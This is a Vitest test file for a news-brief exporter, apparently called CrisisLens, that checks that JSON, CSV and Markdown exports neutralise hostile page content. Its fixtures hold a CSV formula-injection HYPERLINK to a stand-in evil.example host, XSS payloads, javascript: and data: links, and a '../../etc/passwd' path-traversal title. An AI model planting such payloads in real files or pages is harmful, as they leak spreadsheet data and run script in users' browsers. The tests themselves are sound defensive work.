import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, exportFileName, parseImport, toCsv, toJson, toMarkdown } from '../../src/export';
import { mdInline, safeHref } from '../../src/export/markdown-escape';
import { sentenceAround } from '../../src/export/sentence';
import type { SavedBrief } from '../../src/library';
import { briefId } from '../../src/library';
import type { Brief } from '../../src/brief/schema';
import { enBrief, fourBriefs, frBrief, makeBrief, nlBrief } from '../library/factory';

const saved = (b: Brief, extra: Partial<SavedBrief> = {}): SavedBrief => ({
  id: briefId(b),
  brief: b,
  url: b.url,
  savedAt: '2024-06-08T10:00:00.000Z',
  updatedAt: '2024-06-09T11:00:00.000Z',
  note: '',
  tags: [],
  ...extra,
});

const HOSTILE_TITLE = '=HYPERLINK("http://evil.example?x="&A1,"click") <img src=x onerror=alert(1)></script><script>alert(2)</script>';
function hostileBrief(): Brief {
  const text =
    'The group @evil said +1 to -cmd. <img src=x onerror=alert(1)> appeared in the text. ' +
    'The =SUM(A1:A9) Agency (ESA) met </script> officials. A [link](javascript:alert(3)) and *bold* text.';
  return makeBrief({
    url: 'https://news.example/hostile?id=1',
    title: HOSTILE_TITLE,
    byline: '<b onmouseover=alert(4)>Mallory</b>',
    siteName: '| pipe | site',
    lang: 'en',
    published: '2024-01-02',
    text,
    entities: [
      { kind: 'organisation', name: '=SUM(A1:A9) Agency', acronym: 'ESA' },
      { kind: 'organisation', name: '@evil' },
      { kind: 'person', name: '+1 to', role: '-cmd' },
      { kind: 'place', name: '<img src=x onerror=alert(1)>' },
      { kind: 'agreement', name: '</script>' },
    ],
    links: [
      { href: 'javascript:alert(1)', text: 'click me' },
      { href: 'data:text/html,<script>alert(1)</script>', text: 'data' },
      { href: 'https://ok.example/a(b)c d', text: '[x](javascript:alert(5))' },
      { href: '//relative.example', text: 'protocol-relative' },
    ],
  });
}

describe('JSON export', () => {
  it('round-trips through parseImport: full briefs with note, tags and times', () => {
    const items = [saved(nlBrief(), { note: 'n', tags: ['a', 'b'] }), saved(frBrief()), saved(hostileBrief())];
    const json = toJson(items, new Date('2024-06-10T12:00:00Z'));
    const obj = JSON.parse(json);
    expect(obj.schemaVersion).toBe(1);
    expect(obj.exportedAt).toBe('2024-06-10T12:00:00.000Z');
    expect(obj.briefs).toHaveLength(3);
    const back = parseImport(json);
    expect(back.ok).toBe(true);
    if (back.ok) expect(back.items).toEqual(items);
  });
  it('accepts bare briefs (popup export of one brief) and re-imports them', () => {
    const json = toJson([enBrief()]);
    const back = parseImport(json);
    expect(back.ok && back.items[0].brief).toEqual(enBrief());
    expect(back.ok && back.items[0].savedAt).toBe('');
  });
});

describe('CSV export', () => {
  it('starts with a BOM, is RFC 4180, one row per entity per brief, parsed back equal', () => {
    const items = fourBriefs().map((b) => saved(b, { tags: ['floods', 'NCCN'] }));
    const csv = toCsv(items);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv).toContain('\r\n');
    const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    const [header, ...rows] = parsed.data;
    expect(header).toEqual([...CSV_COLUMNS]);
    const expectedRows = items.reduce(
      (n, s) => n + s.brief.organisations.length + s.brief.people.length + s.brief.places.length + s.brief.agreements.length + s.brief.dates.length,
      0,
    );
    expect(rows).toHaveLength(expectedRows);
    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    const nccn = rows.find((r) => r[col('Acronym')] === 'NCCN' && r[col('Language')] === 'nl')!;
    expect(nccn[col('Brief title')]).toBe(nlBrief().title);
    expect(nccn[col('URL')]).toBe(nlBrief().url);
    expect(nccn[col('Published')]).toBe('2024-06-07');
    expect(nccn[col('Kind')]).toBe('organisation');
    expect(nccn[col('Name')]).toBe('Nationaal Crisiscentrum');
    expect(Number(nccn[col('Mentions')])).toBe(nlBrief().organisations[0].mentions.length);
    expect(nccn[col('First sentence')]).toBe(
      'Het Nationaal Crisiscentrum (NCCN) heeft vrijdag een nieuw samenwerkingsakkoord gesloten met de Vlaamse Milieumaatschappij.',
    );
    expect(nccn[col('Tags')]).toBe('floods; NCCN');
    const ks = rows.find((r) => r[col('Name')] === 'Koen Schoeters' && r[col('Language')] === 'fr')!;
    expect(ks[col('Role')]).toBe('directeur ad interim du NCCN');
    const prot = rows.find((r) => r[col('Kind')] === 'agreement' && r[col('Language')] === 'en')!;
    expect(prot[col('Date')]).toBe('2023-10');
    const date = rows.find((r) => r[col('Kind')] === 'date' && r[col('Language')] === 'de')!;
    expect(date[col('Name')]).toBe('im Oktober vergangenen Jahres');
    expect(date[col('Date')]).toBe('2023-10');
  });

  it('neutralises formula injection and keeps hostile strings as inert text', () => {
    const csv = toCsv([saved(hostileBrief())]);
    const rows = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data.slice(1);
    const cells = rows.flat();
    for (const c of cells) expect(c, c).not.toMatch(/^[=+\-@\t\r]/);
    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    expect(rows[0][col('Brief title')]).toBe("'" + HOSTILE_TITLE);
    expect(rows.map((r) => r[col('Name')])).toEqual(
      expect.arrayContaining(["'=SUM(A1:A9) Agency", "'@evil", "'+1 to", '<img src=x onerror=alert(1)>', '</script>']),
    );
    expect(rows.find((r) => r[col('Kind')] === 'person')![col('Role')]).toBe("'-cmd");
    // Leading whitespace, tab, full-width equals: neutralised too.
    const sneaky = makeBrief({ ...specOf(enBrief()), entities: [{ kind: 'organisation', name: ' =1+1' }, { kind: 'organisation', name: '\t=cmd' }, { kind: 'organisation', name: '＝1+1' }] });
    const names = Papa.parse<string[]>(toCsv([sneaky]).slice(1)).data.slice(1).map((r) => r[col('Name')]).filter(Boolean);
    expect(names).toEqual(["' =1+1", "'\t=cmd", "'＝1+1"]);
  });

  it('quotes commas, quotes and newlines (RFC 4180) and survives them parsed back', () => {
    const b = makeBrief({ ...specOf(enBrief()), title: 'He said "no", then\nleft; 100%', entities: [{ kind: 'place', name: 'Liège' }] });
    const rows = Papa.parse<string[]>(toCsv([b]).slice(1), { skipEmptyLines: true }).data;
    expect(rows[1][0]).toBe('He said "no", then\nleft; 100%');
  });
});

function specOf(b: Brief) {
  return { url: b.url, title: b.title, lang: b.lang, published: b.published, text: b.text, siteName: b.siteName };
}

describe('Markdown export', () => {
  it('one section per brief with metadata, summary, entity lists and links', () => {
    const items = fourBriefs().map((b) => saved(b, { note: 'Voor het rapport', tags: ['floods'] }));
    const md = toMarkdown(items, new Date('2024-06-10T12:00:00Z'));
    expect(md.split('\n')[0]).toBe('# CrisisLens briefs (4) — exported 2024-06-10');
    const sections = md.split(/^## /m).slice(1);
    expect(sections).toHaveLength(4);
    const nl = sections[0];
    expect(nl.split('\n')[0]).toBe(nlBrief().title);
    expect(nl).toContain('- **Source:** VRT NWS · [https://www.vrt.be/vrtnws/nl/2024/06/07/crisiscentrum\\_akkoord'.replace('\\_', '-'));
    expect(nl).toContain('- **Published:** 2024-06-07 · **Language:** nl');
    expect(nl).toContain('- **Tags:** floods');
    expect(nl).toContain('> Voor het rapport');
    expect(nl).toMatch(/### Organisations\n\n- Nationaal Crisiscentrum \(NCCN\) \(\d+ mentions?\)\n/);
    expect(nl).toContain('- Koen Schoeters — waarnemend directeur van het NCCN');
    expect(nl).toContain('- Protocol inzake Overstromingsrisico — 2023-10');
    expect(nl).toContain('- 2023-10 (relative) — vorig jaar oktober');
    expect(nl).toContain('- [Nationaal Crisiscentrum](<https://www.nccn.be/nl>)');
    const headings = [...nl.matchAll(/^### (.+)$/gm)].map((m) => m[1]);
    expect(headings).toEqual(['Summary', 'Organisations', 'People', 'Places', 'Agreements', 'Dates', 'Links']);
  });

  it('escapes page strings and only links http(s)', () => {
    const md = toMarkdown([saved(hostileBrief())]);
    expect(md).not.toMatch(/(?<!\\)<(img|script|\/script|b )/); // every "<" from the page is escaped
    expect(md).not.toMatch(/(?<!\\)\]\((?!<https?:)/); // every real link's destination is http(s)
    expect(md).not.toContain('javascript:alert(1))');
    expect(md).toContain('\\<img src=x onerror=alert(1)\\>');
    expect(md).toContain('- click me\n'); // javascript: link kept as text only
    expect(md).toContain('- data\n');
    expect(md).toContain('- protocol-relative\n');
    expect(md).toContain('(<https://ok.example/a%28b%29c%20d>)');
    expect(md).toContain('[\\[x\\](javascript:alert(5))](<https://ok.example/a%28b%29c%20d>)');
    expect(md).toContain('## \\=HYPERLINK("http://evil.example?x="\\&A1,"click") \\<img'); // a title is a heading's text, never markup
    expect(md).toContain('**Source:** \\| pipe \\| site');
  });

  it('mdInline and safeHref', () => {
    expect(mdInline('# not a heading')).toBe('\\# not a heading');
    expect(mdInline('1. not a list')).toBe('1\\. not a list');
    expect(mdInline('- x')).toBe('\\- x');
    expect(mdInline('a *b* _c_ `d` [e](f) <g> &amp; | ~')).toBe('a \\*b\\* \\_c\\_ \\`d\\` \\[e\\](f) \\<g\\> \\&amp; \\| \\~');
    expect(mdInline('two\nlines')).toBe('two lines');
    expect(safeHref('JavaScript:alert(1)')).toBeNull();
    expect(safeHref('  https://a.example/x y ')).toBe('https://a.example/x%20y');
    expect(safeHref('/relative')).toBeNull();
  });
});

describe('first sentence', () => {
  it('finds the sentence around a mention, bounded', () => {
    const t = 'First one. Dr. Who met the NCCN in 2024. Third!\nNew line here';
    const i = t.indexOf('NCCN');
    expect(sentenceAround(t, i, i + 4)).toBe('Dr. Who met the NCCN in 2024.');
    const j = t.indexOf('New');
    expect(sentenceAround(t, j, j + 3)).toBe('New line here');
    const long = 'x'.repeat(5000) + ' NCCN ' + 'y'.repeat(5000);
    const s = sentenceAround(long, 5001, 5005);
    expect(s.length).toBeLessThan(820);
    expect(s).toContain('NCCN');
    expect(sentenceAround('abc', 10, 12)).toBe('');
  });
});

describe('file names', () => {
  const d = new Date(2024, 5, 4, 23, 30); // local time
  it('names several briefs by count and one brief by its title', () => {
    const items = fourBriefs().slice(0, 3).map((b) => saved(b));
    expect(exportFileName('csv', items, d)).toBe('crisislens-2024-06-04-3-briefs.csv');
    expect(exportFileName('json', [], d)).toBe('crisislens-2024-06-04-0-briefs.json');
    expect(exportFileName('json', 1200, d)).toBe('crisislens-2024-06-04-1200-briefs.json');
    expect(exportFileName('csv', 1, d)).toBe('crisislens-2024-06-04-1-brief.csv');
    expect(exportFileName('csv', [{ title: 'Crise à Liège', siteName: 'Le Soir' }], d)).toBe('crisislens-2024-06-04-crise-a-liege.csv');
    expect(exportFileName('md', [frBrief()], d)).toBe('crisislens-2024-06-04-le-centre-de-crise-signe-un-accord-pour-une-alerte-plus.md');
    expect(exportFileName('md', [makeBrief({ ...specOf(enBrief()), title: '../../etc/passwd <script>' })], d)).toBe('crisislens-2024-06-04-etc-passwd-script.md');
    expect(exportFileName('md', [makeBrief({ ...specOf(enBrief()), title: '日本語のタイトル', siteName: null })], d)).toBe('crisislens-2024-06-04-brief.md');
  });
});
